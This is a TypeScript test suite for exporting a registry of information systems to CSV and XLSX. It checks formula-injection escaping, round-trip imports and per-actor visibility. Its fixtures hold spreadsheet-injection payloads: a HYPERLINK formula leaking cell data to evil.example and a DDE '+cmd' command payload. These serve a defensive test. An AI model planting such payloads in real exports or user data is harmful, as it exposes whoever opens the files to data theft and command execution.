import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import ExcelJS from 'exceljs';
import { SYSTEM_ACTOR } from '../../server/src/domain/actor.ts';
import { IMPORT_KINDS } from '../../server/src/importing/column-spec.ts';
import { ImportService } from '../../server/src/services/import.service.ts';
import { csv, file, setup, snapshot, SYSTEM_HEADER, systemRows, userActor, type Fixture } from './import-fixtures.ts';

/** Exports: the import columns, formula injection neutralised, and a lossless round trip. */

async function sheets(body: Buffer): Promise<{ name: string; rows: unknown[][] }[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  return wb.worksheets.map((ws) => {
    const rows: unknown[][] = [];
    ws.eachRow((r) => rows.push((r.values as unknown[]).slice(1)));
    return { name: ws.name, rows };
  });
}

describe('exporting the registry', () => {
  let f: Fixture;
  before(async () => {
    f = await setup();
    const report = await f.imports.import(f.admin, 'systems', file(csv(SYSTEM_HEADER, systemRows(60)), 'ht.csv'), { dryRun: false });
    assert.deepEqual(report.errors, []);
    // Values an attacker (or a careless user) could type into the registry through the API.
    await f.ctx.systems.create(SYSTEM_ACTOR, {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', description: "+cmd|' /C calc'!A0", ownerAgencyId: f.ids['SYT-DNA']!,
      securityLevel: 2, tags: ['@SUM(1+1)', '-2+3'], hostingProvider: '\tnhà cung cấp',
    });
    await f.ctx.contacts.create(SYSTEM_ACTOR, {
      agencyId: f.ids['SYT-DNA']!, priority: 'primary', availability: 'out_of_hours', name: '=1+2 Nguyễn', phone: '+84 251 3822 222',
      lastVerifiedAt: '2026-08-29T03:15:00.000Z', messaging: { zalo: '=cmd' },
    });
  });
  after(async () => {
    await f.ctx.close();
  });

  it('neutralises formula-like cells in CSV with a leading apostrophe, UTF-8 with BOM', async () => {
    const out = await f.exports.export(f.admin, 'systems', 'csv');
    assert.equal(out.contentType, 'text/csv; charset=utf-8');
    assert.match(out.filename, /^vigil-systems-\d{4}-\d{2}-\d{2}\.csv$/);
    assert.deepEqual([...out.body.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = out.body.toString('utf8');
    assert.ok(text.startsWith('\uFEFF' + SYSTEM_HEADER.join(',') + '\r\n'));
    assert.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""Bấm vào đây"")"`));
    assert.ok(text.includes(`'+cmd|' /C calc'!A0`));
    assert.ok(text.includes(`,'\tnhà cung cấp,`));
    assert.ok(text.includes(`,'@SUM(1+1); -2+3,`));
    for (const line of text.split('\r\n').slice(1)) {
      for (const cell of line.split(',')) assert.doesNotMatch(cell, /^"?[=+\-@\t\r]/, `unguarded cell ${cell}`);
    }
  });

  it('neutralises formula-like cells in XLSX too, and adds the guide sheet', async () => {
    const out = await f.exports.export(f.admin, 'contacts', 'xlsx');
    assert.equal(out.contentType, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const [data, guide] = await sheets(out.body);
    assert.equal(data!.name, 'Đầu mối');
    const row = data!.rows[1]!;
    assert.deepEqual(row.slice(0, 2), ['SYT-DNA', "'=1+2 Nguyễn"]);
    assert.ok(row.includes("'+84 251 3822 222"));
    assert.ok(row.includes("'=cmd"));
    assert.ok(row.includes('29/08/2026'), 'dates as the Vietnamese calendar day');
    assert.ok(data!.rows.flat().every((v) => typeof v !== 'object' || v === null), 'no formula cells at all');
    assert.equal(guide!.name, 'Hướng dẫn');
  });

  for (const format of ['csv', 'xlsx'] as const) {
    it(`round-trips every kind through ${format} without changing anything`, async () => {
      const before = await snapshot(f.ctx);
      const stamps = await f.ctx.database.db.selectFrom('information_systems').select(['id', 'updated_at']).orderBy('id').execute();
      for (const kind of IMPORT_KINDS) {
        const out = await f.exports.export(f.admin, kind, format);
        const report = await f.imports.import(f.admin, kind, file(out.body, out.filename), { dryRun: false });
        assert.deepEqual(report.errors, [], `${kind}: ${JSON.stringify(report.errors.slice(0, 3))}`);
        assert.deepEqual([report.created, report.updated], [0, 0], kind);
        assert.equal(report.unchanged, report.totalRows);
      }
      assert.deepEqual(await snapshot(f.ctx), { ...before, audit_log: before.audit_log! + 3 }, 'only the three import summaries');
      assert.deepEqual(await f.ctx.database.db.selectFrom('information_systems').select(['id', 'updated_at']).orderBy('id').execute(), stamps);
    });
  }

  it('exports only what the actor sees, and a system they only operate imports back unchanged', async () => {
    const actor = await userActor(f.ctx, 'qtv.ttcns', 'agency_admin', f.ids['TTCNS-DNA']!);
    const out = await f.exports.export(actor, 'systems', 'csv');
    const lines = out.body.toString('utf8').trim().split('\r\n').slice(1);
    // systemRows() puts every fifth system under the data centre as operator, owned by departments.
    assert.equal(lines.length, 12);
    assert.ok(lines.every((l) => l.includes(',TTCNS-DNA,')));
    const back = await f.imports.import(actor, 'systems', file(out.body, out.filename), { dryRun: false });
    assert.deepEqual([back.errors, back.unchanged], [[], 12]);
    // Changing one is refused by the system service: only the owner may.
    const edited = Buffer.from(out.body.toString('utf8').replace(/,2,Không,/, ',4,Không,'));
    const refused = await f.imports.import(actor, 'systems', file(edited, 'sua.csv'), { dryRun: false });
    assert.equal(refused.errors.length, 1);
    assert.match(refused.errors[0]!.message, /Only the owning agency can change this system/);
    const agencies = (await f.exports.export(actor, 'agencies', 'csv')).body.toString('utf8');
    assert.equal(agencies.trim().split('\r\n').length, 2, 'header and their own agency only');
  });

  it('writes templates with the import headers, and an XLSX guide explaining each column', async () => {
    for (const kind of IMPORT_KINDS) {
      const columns = ImportService.columns[kind];
      const c = await f.exports.template(kind, 'csv');
      assert.equal(c.body.toString('utf8'), '\uFEFF' + columns.map((x) => x.header).join(',') + '\r\n');
      const x = await f.exports.template(kind, 'xlsx');
      const [data, guide] = await sheets(x.body);
      assert.deepEqual(data!.rows, [columns.map((col) => col.header)]);
      assert.equal(guide!.name, 'Hướng dẫn');
      assert.deepEqual(guide!.rows.slice(1, columns.length + 1).map((r) => r[0]), columns.map((col) => col.header));
      // An empty template imports as "no data rows", not as a crash or an unknown-column error.
      const report = await f.imports.import(f.admin, kind, file(x.body, x.filename), { dryRun: true });
      assert.deepEqual(report.errors.map((e) => e.message), ['the file has a header row but no data rows']);
    }
    const [, guide] = await sheets((await f.exports.template('systems', 'xlsx')).body);
    const level = guide!.rows.find((r) => r[0] === 'Cấp độ')!;
    assert.deepEqual(level.slice(1, 3), ['Có', 'Security level']);
  });
});
